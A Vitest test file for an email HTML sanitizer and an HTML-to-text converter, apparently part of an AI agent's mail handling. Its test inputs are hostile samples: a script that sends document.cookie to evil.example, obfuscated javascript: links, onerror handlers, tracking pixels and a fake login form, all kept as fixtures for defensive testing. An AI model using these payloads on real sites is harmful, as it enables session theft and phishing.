import { describe, expect, it } from 'vitest';
import { mailHtmlToText, sanitizeMailHtml } from './sanitize-mail-html.js';

// Hostile HTML as it arrives in real phishing and tracking mail; each case is what a renderer
// in an agent's browser would otherwise execute or load.

describe('sanitizeMailHtml', () => {
  it('drops script elements with their content', () => {
    const out = sanitizeMailHtml('<p>Hallo<script>fetch("https://evil.example/?c="+document.cookie)</script> daar</p>');
    expect(out).toBe('<p>Hallo daar</p>');
  });

  it('drops event handler attributes (onerror, onclick, onload)', () => {
    const out = sanitizeMailHtml('<img src="cid:logo" onerror="alert(1)"><p onclick="alert(2)">tekst</p><body onload="alert(3)">');
    expect(out).not.toMatch(/on(error|click|load)/i);
    expect(out).toContain('tekst');
  });

  it('drops javascript:, vbscript: and data: links, however they are spelled', () => {
    for (const href of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'java&#x09;script:alert(1)', '&#106;avascript:alert(1)', 'vbscript:msgbox(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==']) {
      const out = sanitizeMailHtml(`<a href="${href}">klik</a>`);
      expect(out).not.toContain('href');
      expect(out).toContain('klik');
    }
  });

  it('keeps http(s) and mailto links, and makes them leak no referrer', () => {
    const out = sanitizeMailHtml('<a href="https://winkel.example/bestelling">bestelling</a> <a href="mailto:hulp@winkel.example">mail</a>');
    expect(out).toContain('href="https://winkel.example/bestelling"');
    expect(out).toContain('href="mailto:hulp@winkel.example"');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
  });

  it('drops a remote tracking pixel and any remote image, keeping images carried in the mail', () => {
    const out = sanitizeMailHtml(
      '<img src="https://track.evil.example/open.gif?id=42" width="1" height="1"><img src="//track.evil.example/p.png"><img src="cid:logo@winkel" alt="Logo"><img src="data:image/png;base64,iVBORw0KGgo=">',
    );
    expect(out).not.toContain('track.evil.example');
    expect(out).toContain('src="cid:logo@winkel"');
    expect(out).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('drops an SVG data URL image (it can carry script)', () => {
    expect(sanitizeMailHtml('<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">')).toBe('');
  });

  it('drops style attributes and style elements, so no CSS url() is ever fetched', () => {
    const out = sanitizeMailHtml(
      '<style>body{background:url(https://track.evil.example/css.png)}</style><div style="background-image:url(https://track.evil.example/bg.png)">Groet</div><table background="https://track.evil.example/t.png"><tr><td>a</td></tr></table>',
    );
    expect(out).not.toContain('track.evil.example');
    expect(out).not.toContain('style');
    expect(out).toContain('Groet');
  });

  it('drops an inline SVG with its script and handlers', () => {
    const out = sanitizeMailHtml('<svg onload="alert(1)"><script>alert(2)</script><foreignObject><img src=x onerror=alert(3)></foreignObject></svg>na');
    expect(out).toBe('na');
  });

  it('drops forms, frames, objects and embeds, and base and meta refresh', () => {
    const out = sanitizeMailHtml(
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><form action="https://evil.example/login"><input name="password"><button>Inloggen</button></form><iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf">tekst',
    );
    expect(out).toBe('tekst');
  });

  it('closes malformed nesting instead of letting markup leak past it', () => {
    const out = sanitizeMailHtml('<p><b>vet <i>schuin</p></b><a href="https://ok.example">ok<div>binnen</a>');
    expect(out).toBe('<p><b>vet <i>schuin</i></b></p><a href="https://ok.example" rel="noopener noreferrer nofollow" target="_blank">ok<div>binnen</div></a>');
  });

  it('does not let a comment or CDATA smuggle markup', () => {
    const out = sanitizeMailHtml('<!--<script>alert(1)</script>--><![CDATA[<script>alert(2)</script>]]>ok');
    expect(out).not.toContain('<script');
    expect(out).toContain('ok');
  });
});

describe('mailHtmlToText', () => {
  it('renders structure as plain text: paragraphs, line breaks, lists, tables', () => {
    const text = mailHtmlToText('<p>Beste klant,</p><p>Regel een<br>regel twee</p><ul><li>een</li><li>twee</li></ul><table><tr><td>a</td><td>b</td></tr></table>');
    expect(text).toBe('Beste klant,\n\nRegel een\nregel twee\n\n- een\n- twee\n\na\tb');
  });

  it('shows where a link really goes, and leaves out a javascript: target', () => {
    expect(mailHtmlToText('<a href="https://bank.evil.example/login">https://mijnbank.nl</a>')).toBe('https://mijnbank.nl <https://bank.evil.example/login>');
    expect(mailHtmlToText('<a href="javascript:alert(1)">klik</a>')).toBe('klik');
  });

  it('keeps no script text, style text or remote image address', () => {
    const text = mailHtmlToText('<style>.x{background:url(https://t.example/a)}</style><script>alert(1)</script><img src="https://t.example/p.gif" alt="pixel">Hallo');
    expect(text).toBe('Hallo');
  });

  it('decodes entities once: escaped markup stays text, never becomes markup', () => {
    expect(mailHtmlToText('&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#x41;&#66;')).toBe('<script>alert(1)</script> &lt; AB');
  });
});
